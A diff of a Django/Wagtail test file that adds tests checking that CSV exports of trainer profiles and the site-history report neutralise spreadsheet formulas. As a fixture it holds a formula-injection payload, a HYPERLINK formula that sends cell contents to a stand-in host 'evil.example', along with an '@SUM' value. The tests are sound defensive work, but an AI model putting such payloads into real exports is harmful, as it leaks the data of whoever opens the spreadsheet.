@@ -9,9 +9,10 @@ from openpyxl import load_workbook
 from wagtail.models import ModelLogEntry
 
 from accounts.models import User
-from trainers.exporting import EXPORT_LOG_ACTION, export_csv, export_xlsx, neutralise
+from trainers.exporting import EXPORT_LOG_ACTION, export_csv, export_xlsx
 from trainers.importing import attendance_import
 from trainers.models import Attendance, Profile, SessionParticipant
+from trainers.spreadsheets import neutralise
 
 from .import_factories import D, csv_bytes, make_admin, make_areas, make_person, make_session
 from .test_import import messy_rows
@@ -114,3 +115,36 @@ def test_admin_downloads_are_scoped_and_logged(client, session, areas):
 )
 def test_neutralise(value, expected):
     assert neutralise(value) == expected
+
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Lan")'
+
+
+def _csv_cells(response) -> list[str]:
+    content = b"".join(response.streaming_content) if response.streaming else response.content
+    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
+
+
+def test_wagtail_listing_exports_neutralise_formulas(client, superuser):
+    person = make_person(FORMULA_NAME, email="lan@example.org", organisation="@SUM(1+1)")
+    client.force_login(superuser)
+    response = client.get("/admin/trainers/profiles/", {"export": "csv"})
+    assert response.status_code == 200
+    cells = _csv_cells(response)
+    assert "'" + str(person) in cells and "'@SUM(1+1)" in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "@", "+"))]
+
+
+def test_wagtail_site_history_export_neutralises_formulas(client, superuser, areas):
+    from wagtail.log_actions import log
+
+    session = make_session(areas["duy_xuyen"])
+    session.title = FORMULA_NAME
+    session.save()
+    log(instance=session, action="wagtail.edit", user=superuser)
+    client.force_login(superuser)
+    response = client.get("/admin/reports/site-history/", {"export": "csv"})
+    assert response.status_code == 200
+    cells = _csv_cells(response)
+    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
+    assert not [cell for cell in cells if cell.startswith(("=", "@", "+"))]
